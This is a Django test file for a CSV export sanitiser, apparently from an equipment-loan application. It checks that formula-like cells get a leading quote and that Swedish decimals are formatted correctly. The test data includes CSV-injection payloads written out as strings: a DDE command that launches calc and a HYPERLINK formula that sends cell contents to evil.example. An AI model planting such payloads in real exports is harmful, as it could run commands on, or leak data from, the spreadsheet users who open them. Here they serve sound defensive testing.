"""CSV exports never hand a spreadsheet a formula (OWASP "CSV injection")."""

import csv
import io

from django.urls import reverse

from distans.core.exports import neutralise
from distans.equipment.models import ItemType
from distans.equipment.services import loan_create


def test_formula_cells_get_a_leading_quote_and_plain_values_stay():
    for cell in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell
    for cell in ("Åsa Öberg", "", "2026-12-07", "a=b", 7, -3, None):
        assert neutralise(cell) == cell


def test_the_loans_export_writes_names_and_serials_as_text(client, cast):
    """Regression: a name like =HYPERLINK(…) went into the CSV as a live formula."""
    asa = cast["employee"]
    asa.first_name, asa.last_name = '=HYPERLINK("http://evil.example/?"&A1', '"Click")'
    asa.save()
    loan_create(actor=cast["hr"], person=asa, item_type=ItemType.objects.get(key="laptop"),
                serial_number="@SUM(1+1)")
    loan_create(actor=cast["hr"], person=cast["manager"],
                item_type=ItemType.objects.get(key="mobile-phone"), serial_number="+46-cmd")
    client.force_login(cast["hr"])
    response = client.get(reverse("equipment:loans"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)" in cells and "'+46-cmd" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "Björn Ekström" in cells, "ordinary names are untouched"


def test_decimals_carry_the_readers_decimal_sign_in_every_export():
    from decimal import Decimal

    from django.utils import translation

    with translation.override("sv"):
        assert neutralise(Decimal("2.5")) == "2,5" and neutralise(Decimal("-0.5")) == "-0,5"
    with translation.override("en"):
        assert neutralise(Decimal("2.5")) == "2.5"
